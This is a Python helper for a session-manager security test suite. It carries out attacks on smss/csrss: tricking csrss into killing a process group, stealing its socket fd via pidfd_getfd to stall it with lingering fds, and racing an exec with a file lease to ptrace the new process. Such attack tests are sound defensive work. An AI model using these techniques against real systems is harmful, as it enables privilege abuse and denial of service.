#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""What an attacker does, for session_attack.bats. Runs inside the machine.

session_attack.py kill N GROUP-FILE   as the owner of session N: a program on a terminal puts a
                                      group in front that dies, writes its number to GROUP-FILE;
                                      when GROUP-FILE.go is there csrss is asked to kill "the group
                                      in front"
session_attack.py front FILE          that program
session_attack.py linger PID          as a root process of a session: takes csrss's connection out
                                      of PID and sends the master a message with an fd whose last
                                      close takes a minute
session_attack.py lease N FILE        as the owner of session N and of FILE: has it started there
                                      while nobody can open it, and stops and traces the process
                                      that is to become it; says how that went, and stays
"""

import array
import ctypes
import fcntl
import os
import signal
import socket
import struct
import sys
import time

PORT = "/run/smss/SmApiPort"
EXEC_PGM, ITEM = 3, 25
EXEC = "<IIIHHI48s2000s"
DETACHED, TERMINAL, SIGNAL = 1, 2, 1
PTRACE_SEIZE = 0x4206


def connect():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    s.connect(PORT)
    return s


def message(call, body, tag=1, reply=0):
    return struct.pack("<HHIII", call, reply, tag, 0, len(body)) + body


def wait_for(path):
    while not os.path.exists(path):
        time.sleep(0.02)


def kill(n, path):
    words = b"\0".join(w.encode() for w in [sys.executable, "-I", sys.argv[0], "front", path]) + b"\0"
    s = connect()
    s.send(message(EXEC_PGM, struct.pack(EXEC, n, TERMINAL, 0, 24, 80, len(words), b"vt100", words)))
    data, fds, _, _ = socket.recv_fds(s, 8192, 6)
    status = struct.unpack_from("<HHIII", data)[3]
    if status:
        sys.exit("%08x" % status)
    control = socket.socket(fileno=fds[0])
    wait_for(path + ".go")
    control.send(struct.pack("<II", SIGNAL, signal.SIGKILL))
    time.sleep(1)


def front(path):
    signal.signal(signal.SIGTTOU, signal.SIG_IGN)
    child = os.fork()
    if not child:
        os.setpgid(0, 0)
        os.tcsetpgrp(0, os.getpid())
        os._exit(0)
    os.waitpid(child, 0)
    with open(path + ".new", "w") as f:
        f.write("%d\n" % child)
    os.rename(path + ".new", path)
    time.sleep(1000)


def linger(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    pidfd = os.pidfd_open(pid)
    fd = libc.syscall(438, pidfd, 3, 0)  # pidfd_getfd: its fd 3, the connection
    if fd < 0:
        sys.exit("pidfd_getfd: " + os.strerror(ctypes.get_errno()))
    master = socket.socket(fileno=fd)
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
    out = socket.socket()
    out.connect(listener.getsockname())
    out.setblocking(False)
    try:
        while True:
            out.send(b"x" * 65536)
    except BlockingIOError:
        pass
    out.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 60))
    body = struct.pack("<IiQ48s160s", 0, 0, 0, b"linger", b"")
    for _ in range(48):  # more than one turn reads: ours is closed before the last of theirs
        socket.send_fds(master, [message(ITEM, body)], [out.fileno()])
    out.close()
    print("sent", flush=True)
    time.sleep(1000)


def to_become():
    """A process of ours that is still csrss."""
    while True:
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                with open("/proc/%s/status" % pid) as f:
                    status = dict(line.split(":\t", 1) for line in f)
            except (OSError, ValueError):
                continue
            if status["Name"] == "csrss\n" and status["Uid"].split()[0] == str(os.getuid()):
                return int(pid)
        time.sleep(0.01)


def lease(n, path):
    libc = ctypes.CDLL(None, use_errno=True)
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    fd = os.open(path, os.O_RDWR)  # opening it waits until we give way: F_SETLEASE, fcntl(2)
    fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_WRLCK)
    words = path.encode() + b"\0"
    s = connect()
    s.send(message(EXEC_PGM, struct.pack(EXEC, n, DETACHED, 0, 0, 0, len(words), b"", words)))
    pid = to_become()
    os.kill(pid, signal.SIGSTOP)
    if libc.ptrace(PTRACE_SEIZE, pid, 0, 0) < 0:
        print("ptrace: " + os.strerror(ctypes.get_errno()), flush=True)
    try:
        print("its fds: %s" % os.listdir("/proc/%d/fd" % pid), flush=True)
    except OSError as e:
        print("fds: " + e.strerror, flush=True)
    fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_UNLCK)
    print("stopped %d" % pid, flush=True)
    time.sleep(1000)


if __name__ == "__main__":
    verb = sys.argv[1]
    if verb == "kill":
        kill(int(sys.argv[2]), sys.argv[3])
    elif verb == "front":
        front(sys.argv[2])
    elif verb == "linger":
        linger(int(sys.argv[2]))
    elif verb == "lease":
        lease(int(sys.argv[2]), sys.argv[3])
